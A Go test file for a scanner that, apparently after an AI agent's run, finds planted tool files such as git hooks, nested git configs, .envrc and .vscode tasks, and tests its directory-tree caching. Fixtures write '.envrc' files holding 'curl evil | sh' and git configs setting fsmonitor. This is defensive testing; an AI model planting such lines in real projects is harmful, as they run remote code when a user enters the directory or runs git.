package workscan

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"
)

// shortRacyMargin lets a test's fresh directories count as trusted after
// 30 ms instead of 2 s (the rule is the same).
func shortRacyMargin(t testing.TB) {
	old := racyMargin
	racyMargin = 20 * time.Millisecond
	t.Cleanup(func() { racyMargin = old })
}

func scanJoin(root string, started time.Time, tr *Tree) (string, *Tree) {
	return scanWith(root, started, tr, nil)
}

// scanWith is scanJoin with the previous run's tree prev.
func scanWith(root string, started time.Time, tr, prev *Tree) (string, *Tree) {
	fs, next := Scan(root, started, nil, nil, nil, tr, prev)
	var b strings.Builder
	for _, f := range fs {
		b.WriteString(f.Text + "\n")
	}
	return b.String(), next
}

// TestScanTree: the scan over a tree read during the run, before or after
// the agent's changes, finds what a full walk finds (a repository planted
// in an old directory, a nested repository's config and a deep .envrc
// changed in place, a protected name created deep down) and reads only
// the directories that changed; a directory replaced after the reading is
// read again; a directory changed too recently to trust its ctime is read
// again. Both with the directories' checks asked one by one during the
// walk and asked ahead in parallel (precheck).
func TestScanTree(t *testing.T) {
	if runtime.GOMAXPROCS(0) < 2 {
		t.Log("one CPU: precheck asks nothing ahead, both runs walk one by one")
	}
	for _, min := range []int{precheckMin, 1} {
		t.Run(fmt.Sprintf("precheckMin=%d", min), func(t *testing.T) {
			defer func(old int) { precheckMin = old }(precheckMin)
			precheckMin = min
			testScanTree(t)
		})
	}
}

func testScanTree(t *testing.T) {
	shortRacyMargin(t)
	root, _ := filepath.EvalSymlinks(t.TempDir())
	for d := 0; d < 50; d++ {
		for f := 0; f < 20; f++ {
			write(t, filepath.Join(root, fmt.Sprintf("d%02d", d), fmt.Sprintf("f%02d", f)), "x")
		}
	}
	write(t, filepath.Join(root, "vendor", "lib", ".git", "config"), "[core]\n")
	write(t, filepath.Join(root, "a", "b", ".envrc"), "export A=1\n")
	time.Sleep(50 * time.Millisecond)
	started := time.Now()
	before := readTree(root, nil, nil, nil)
	if !before.complete || len(before.Dirs) < 50 {
		t.Fatalf("the tree was not read: %d dirs, complete %v", len(before.Dirs), before.complete)
	}
	time.Sleep(30 * time.Millisecond)
	write(t, filepath.Join(root, "d10", ".git", "hooks", "pre-commit"), "#!/bin/sh\n")
	appendTo(t, filepath.Join(root, "vendor", "lib", ".git", "config"), "[core]\n\tfsmonitor = /tmp/x\n")
	appendTo(t, filepath.Join(root, "a", "b", ".envrc"), "curl evil | sh\n")
	write(t, filepath.Join(root, "d20", "sub", ".vscode", "tasks.json"), "{}")
	time.Sleep(30 * time.Millisecond)
	after := readTree(root, nil, nil, nil)

	dirReads.Store(0)
	full, _ := scanJoin(root, started, nil)
	fullReads := dirReads.Load()
	for _, want := range []string{"d10/.git/hooks/pre-commit", "vendor/lib/.git/config", "a/b/.envrc", "d20/sub/.vscode"} {
		if !strings.Contains(full, want) {
			t.Errorf("the full scan misses %s:\n%s", want, full)
		}
	}
	for name, tr := range map[string]*Tree{"read before the changes": before, "read after them": after} {
		dirReads.Store(0)
		got, next := scanJoin(root, started, tr)
		if got != full {
			t.Errorf("tree %s: the scan differs from the full one:\n%s\nfull:\n%s", name, got, full)
		}
		if !next.complete || len(next.Dirs) != len(after.Dirs) {
			t.Errorf("tree %s: the tree left for the next run has %d dirs (complete %v), want %d", name, len(next.Dirs), next.complete, len(after.Dirs))
		}
		// Changed: d10, d20, d20/sub, d20/sub/.vscode (the root's
		// entries did not change). Everything else is taken as recorded.
		if n := dirReads.Load(); n > 6 || n*5 > fullReads {
			t.Errorf("tree %s: the scan read %d directories (a full walk reads %d)", name, n, fullReads)
		}
	}

	// A directory replaced after the tree was read (another inode) is read
	// again.
	if err := os.Rename(filepath.Join(root, "d30"), filepath.Join(root, "d30.old")); err != nil {
		t.Fatal(err)
	}
	write(t, filepath.Join(root, "d30", ".envrc"), "planted")
	if got, _ := scanJoin(root, started, before); !strings.Contains(got, "d30/.envrc") {
		t.Errorf("a replaced directory's new content was not scanned:\n%s", got)
	}

	// A record whose ctime was too close to its reading is not trusted: a
	// change in the same clock tick could keep the ctime.
	racy := readTree(root, nil, nil, nil)
	racyMargin = time.Hour
	fresh := readTree(root, nil, nil, nil)
	for dir, td := range fresh.Dirs {
		if td.Trusted {
			t.Errorf("%s: trusted with a ctime %v old", dir, time.Since(td.Ctime))
		}
	}
	dirReads.Store(0)
	if got, _ := scanJoin(root, started, fresh); got == "" || dirReads.Load() < int64(len(racy.Dirs)) {
		t.Errorf("untrusted records were used: %d reads for %d dirs", dirReads.Load(), len(racy.Dirs))
	}
}

// TestTreeFile: the tree a scan leaves is saved and read back by the next
// run's prewalk, which then reads only the directories changed since; a
// corrupt or missing file is no tree.
func TestTreeFile(t *testing.T) {
	shortRacyMargin(t)
	root, _ := filepath.EvalSymlinks(t.TempDir())
	for d := 0; d < 40; d++ {
		write(t, filepath.Join(root, fmt.Sprintf("d%02d", d), "f"), "x")
	}
	time.Sleep(50 * time.Millisecond)
	file := filepath.Join(t.TempDir(), "scan", "w.tree")
	_, next := scanJoin(root, time.Now(), nil)
	SaveTree(file, nil, next)
	if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
		t.Fatalf("the tree file: %v %v", st, err)
	}
	write(t, filepath.Join(root, "d07", "new"), "x")
	dirReads.Store(0)
	pre := StartPrewalk(root, file, nil)
	tr := walked(pre)
	if tr == nil || len(tr.Dirs) != 41 {
		t.Fatalf("the prewalk from the saved tree gave %v", tr)
	}
	if n := dirReads.Load(); n != 1 {
		t.Errorf("the prewalk read %d directories, want 1 (d07)", n)
	}
	// d07 changed its ctime only (its recorded entries are the
	// directories and the scanned names): one directory to read again
	// is not worth writing the file, which is only marked used (same
	// file, newer time), and the next run reads d07 again.
	time.Sleep(50 * time.Millisecond) // d07's change is old enough to trust
	_, next = scanJoin(root, time.Now(), tr)
	rerun := func(what string, wantWritten bool, wantReads int64) {
		t.Helper()
		st0, _ := os.Stat(file)
		past := time.Now().Add(-time.Hour)
		if err := os.Chtimes(file, past, past); err != nil {
			t.Fatal(err)
		}
		SaveTree(file, pre.Previous(), next)
		if st1, err := os.Stat(file); err != nil || !st1.ModTime().After(past) {
			t.Errorf("%s: the tree file was not marked used: %v", what, err)
		} else if written := !os.SameFile(st0, st1); written != wantWritten {
			t.Errorf("%s: the tree file written: %v, want %v", what, written, wantWritten)
		}
		dirReads.Store(0)
		pre = StartPrewalk(root, file, nil)
		tr = walked(pre)
		if n := dirReads.Load(); n != wantReads {
			t.Errorf("%s: the next prewalk read %d directories, want %d", what, n, wantReads)
		}
		_, next = scanJoin(root, time.Now(), tr)
	}
	rerun("one directory changed its ctime", false, 1)
	// More than maxStaleDirs such directories: the file is written, and
	// the run after reads nothing again (the unchanged tree is then only
	// marked used).
	defer func(n int) { maxStaleDirs = n }(maxStaleDirs)
	maxStaleDirs = 0
	rerun("maxStaleDirs exceeded", true, 0)
	rerun("nothing changed", false, 0)
	// A new directory is a new record: written whatever maxStaleDirs.
	maxStaleDirs = 16
	write(t, filepath.Join(root, "d40", "f"), "x")
	time.Sleep(50 * time.Millisecond)
	_, next = scanJoin(root, time.Now(), tr)
	rerun("a new directory", true, 0)
	// Another workdir's tree unused for longer than treeMaxAge goes when
	// a tree is saved; a recent one stays.
	stale, recent := filepath.Join(filepath.Dir(file), "stale.tree"), filepath.Join(filepath.Dir(file), "recent.tree")
	write(t, stale, "x")
	write(t, recent, "x")
	old := time.Now().Add(-treeMaxAge - time.Hour)
	if err := os.Chtimes(stale, old, old); err != nil {
		t.Fatal(err)
	}
	SaveTree(file, nil, next)
	if _, err := os.Stat(stale); !os.IsNotExist(err) {
		t.Errorf("a stale tree was kept: %v", err)
	}
	if _, err := os.Stat(recent); err != nil {
		t.Errorf("a recent tree was removed: %v", err)
	}
	if err := os.WriteFile(file, []byte("not a tree"), 0o600); err != nil {
		t.Fatal(err)
	}
	if loadTree(file) != nil || loadTree(filepath.Join(root, "missing")) != nil || loadTree("") != nil {
		t.Error("a corrupt, missing or unnamed tree file gave a tree")
	}
}

func appendTo(t *testing.T, p, s string) {
	t.Helper()
	f, err := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(s); err != nil {
		t.Fatal(err)
	}
}

// walked waits for the prewalk p to end and returns its tree (nil when
// incomplete).
func walked(p *Prewalk) *Tree {
	<-p.done
	if p.t == nil || !p.t.complete {
		return nil
	}
	return p.t
}

// TestPrewalkFinish: a finished prewalk gives its tree; one still going
// when the run ends (a short run) is stopped, and the scan starts from the
// tree the previous run left, as it does after an incomplete one (a
// bound); without either, or when interrupted, nil: the scan walks in
// full.
func TestPrewalkFinish(t *testing.T) {
	root := t.TempDir()
	write(t, filepath.Join(root, "a", "f"), "x")
	p := StartPrewalk(root, "", nil)
	<-p.done
	if tr := p.Finish(nil); tr == nil || !tr.complete || len(tr.Dirs) != 2 {
		t.Fatalf("a finished prewalk gave %+v", tr)
	}
	done := make(chan struct{})
	close(done)
	if tr := (&Prewalk{done: done, cancel: make(chan struct{}), t: &Tree{}}).Finish(nil); tr != nil {
		t.Errorf("an incomplete tree was used: %+v", tr)
	}
	var none *Prewalk
	if none.Finish(nil) != nil {
		t.Error("no prewalk gave a tree")
	}
	// A walk told to stop stops at the next directory, not only every
	// 1,024 entries (a tree taken as recorded has few per directory).
	stop := make(chan struct{})
	close(stop)
	if tr := readTree(root, stop, nil, nil); tr.complete || len(tr.Dirs) != 0 {
		t.Errorf("a walk told to stop read %d directories (complete %v)", len(tr.Dirs), tr.complete)
	}
	// A reading still going: it ends only when told to stop.
	going := func() *Prewalk {
		p := &Prewalk{done: make(chan struct{}), cancel: make(chan struct{}), saved: &Tree{Dirs: map[string]treeDir{root: {}}}}
		go func() {
			<-p.cancel
			p.t = &Tree{Dirs: map[string]treeDir{}}
			close(p.done)
		}()
		return p
	}
	p = going()
	if tr := p.Finish(nil); tr != p.saved {
		t.Errorf("a reading still going gave %+v, want the previous run's tree", tr)
	}
	interrupted := make(chan struct{})
	close(interrupted)
	if tr := going().Finish(interrupted); tr != nil {
		t.Errorf("an interrupted end gave %+v", tr)
	}
}

// BenchmarkScanAfterRun: the end-of-run scan of a workdir of 100,000
// files in 1,000 directories in which the agent changed 10 files, walked
// in full and over the tree the prewalk read during the run (issue 27:
// under 5 ms); the prewalk itself, from nothing and from the previous
// run's tree.
func BenchmarkScanAfterRun(b *testing.B) {
	root, _ := filepath.EvalSymlinks(b.TempDir())
	for d := 0; d < 1000; d++ {
		dir := filepath.Join(root, fmt.Sprintf("d%03d", d))
		if err := os.MkdirAll(dir, 0o755); err != nil {
			b.Fatal(err)
		}
		for f := 0; f < 100; f++ {
			if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("f%03d", f)), []byte("x"), 0o644); err != nil {
				b.Fatal(err)
			}
		}
	}
	shortRacyMargin(b)
	time.Sleep(50 * time.Millisecond)
	started := time.Now()
	tr := readTree(root, nil, nil, nil)
	time.Sleep(20 * time.Millisecond)
	for i := 0; i < 10; i++ {
		if err := os.WriteFile(filepath.Join(root, fmt.Sprintf("d%03d", i*97), "f001"), []byte("changed"), 0o644); err != nil {
			b.Fatal(err)
		}
	}
	cases := []struct {
		name string
		t    *Tree
	}{{"full", nil}, {"prewalked", tr}}
	if watched := benchWatchedTree(b, root, tr); watched != nil {
		cases = append(cases, struct {
			name string
			t    *Tree
		}{"watched", watched})
	}
	for _, c := range cases {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				if f, _ := Scan(root, started, nil, nil, nil, c.t, nil); len(f) != 0 {
					b.Fatalf("findings: %v", f)
				}
			}
		})
	}
	for _, c := range []struct {
		name string
		prev *Tree
	}{{"prewalk", nil}, {"prewalk-from-previous-run", tr}} {
		b.Run(c.name, func(b *testing.B) {
			for b.Loop() {
				if t := readTree(root, nil, c.prev, nil); !t.complete {
					b.Fatal("incomplete")
				}
			}
		})
	}
}

// TestScanMovedIntoSight: a tool file planted where the scan does not look
// (inside a .git directory) keeps its ctime when the directory holding it
// is moved into sight in a later run: the scan reports what lies below a
// directory that the previous run's tree does not record at that path and
// whose ctime moved during the run, whatever their own ctimes. A directory
// the previous run recorded there, or one that did not change, is judged
// as before.
func TestScanMovedIntoSight(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	write(t, filepath.Join(root, "sub", ".git", "x", "p", ".envrc"), "curl evil | sh\n")
	write(t, filepath.Join(root, "sub", ".git", "x", "q", "r", ".git", "config"), "[core]\n\tfsmonitor = true\n")
	write(t, filepath.Join(root, "old", ".envrc"), "export A=1\n")
	prev := readTree(root, nil, nil, nil) // the previous run's, at its end
	time.Sleep(30 * time.Millisecond)
	started := time.Now()
	time.Sleep(20 * time.Millisecond)
	if err := os.Rename(filepath.Join(root, "sub", ".git", "x", "p"), filepath.Join(root, "other")); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(filepath.Join(root, "sub", ".git", "x", "q"), filepath.Join(root, "sub", "q")); err != nil {
		t.Fatal(err)
	}
	got, _ := scanWith(root, started, nil, prev)
	for _, want := range []string{"other/.envrc", "sub/q/r/.git/config"} {
		if !strings.Contains(got, want) {
			t.Errorf("%s, moved into sight during the run, is not reported:\n%s", want, got)
		}
	}
	if strings.Contains(got, "old/.envrc") {
		t.Errorf("an unchanged file in a recorded directory is reported:\n%s", got)
	}
}
